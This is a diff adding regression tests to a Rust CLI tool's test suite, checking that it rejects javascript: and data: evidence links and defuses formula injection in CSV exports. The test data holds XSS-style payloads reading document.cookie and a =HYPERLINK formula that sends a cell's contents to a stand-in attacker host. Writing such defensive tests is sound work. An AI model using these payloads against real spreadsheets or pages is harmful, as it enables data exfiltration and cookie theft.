@@ -240,7 +240,26 @@ fn actions_set_refuses_bad_input_and_writes_nothing() {
             2,
             "did you mean `Payments Platform`?",
         ),
-        (&["--evidence", "see the wiki"], 2, "is not a link"),
+        (
+            &["--evidence", "javascript://%0Aalert(document.cookie)"],
+            2,
+            "is a `javascript:` link; only http(s) links or plain text",
+        ),
+        (
+            &["--evidence", "javascript:alert(1)"],
+            2,
+            "is a `javascript:` link",
+        ),
+        (
+            &["--evidence", "data:text/html,<script>"],
+            2,
+            "is a `data:` link",
+        ),
+        (
+            &["--evidence", "https://tracker/SEC 1"],
+            2,
+            "not a whole link",
+        ),
         (&["--due", "next week"], 2, "is not a date"),
         (&[], 2, "nothing to change"),
     ];
@@ -492,4 +511,73 @@ fn a_tampered_ledger_is_refused_with_its_line() {
         .code(1)
         .stderr_has("the hash chain is broken")
         .stderr_has("the ledger was edited, reordered or cut");
+}
+
+/// Regression: a note or finding that begins like a formula (`=HYPERLINK(…)`, `+`, `-`,
+/// `@`, tab, CR) ran as a formula when the CSV was opened in a spreadsheet.
+#[test]
+fn csv_exports_are_safe_to_open_in_a_spreadsheet_and_import_back_unchanged() {
+    let dir = copy_of_history("csv-injection");
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    ttx(&dir)
+        .args(["actions", "set", "2026H2-PAYMENTS-01", "--note", formula])
+        .run()
+        .code(0);
+    let out = ttx(&dir).args(["actions", "list", "--format", "csv"]).run();
+    out.code(0);
+    let csv = out.stdout.clone();
+    assert!(
+        csv.contains("\"'=HYPERLINK("),
+        "the formula is neutralized with a leading quote:\n{csv}"
+    );
+    for line in csv.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '@', '\t', '\r']),
+                "a cell a spreadsheet would evaluate: {cell}"
+            );
+        }
+    }
+    // Importing the export back changes nothing: the quote is taken off again.
+    std::fs::write(dir.join("export.csv"), &csv).unwrap();
+    ttx(&dir)
+        .args(["actions", "import", "export.csv"])
+        .run()
+        .code(0)
+        .stdout_has("imported 0 change(s)");
+    let show = ttx(&dir)
+        .args(["actions", "show", "2026H2-PAYMENTS-01"])
+        .run();
+    show.code(0).stdout_has(formula);
+}
+
+/// Regression: a change with no `--by` and no `TTX_USER` was recorded as by `unknown`.
+#[test]
+fn a_change_without_an_author_warns_and_records_the_os_user_and_plain_text_evidence_is_kept() {
+    let dir = copy_of_history("authorship");
+    Ttx::new()
+        .cwd(&dir)
+        .env("TTX_NOW", NOW)
+        .env("TTX_USER", "")
+        .env("USER", "alex")
+        .args([
+            "actions",
+            "set",
+            "2026H2-PAYMENTS-01",
+            "--evidence",
+            "SEC-311, closed by the CAB",
+        ])
+        .run()
+        .code(0)
+        .stderr_has("warning: no --by and no TTX_USER: the change is recorded as by `alex`");
+    let last = String::from_utf8(ledger(&dir)).unwrap();
+    let last: serde_json::Value = serde_json::from_str(last.lines().last().unwrap()).unwrap();
+    assert_eq!(last["by"], "alex");
+    assert_eq!(last["event"]["evidence"], "SEC-311, closed by the CAB");
+    assert!(
+        !String::from_utf8(ledger(&dir))
+            .unwrap()
+            .contains("\"by\":\"unknown\"")
+    );
 }
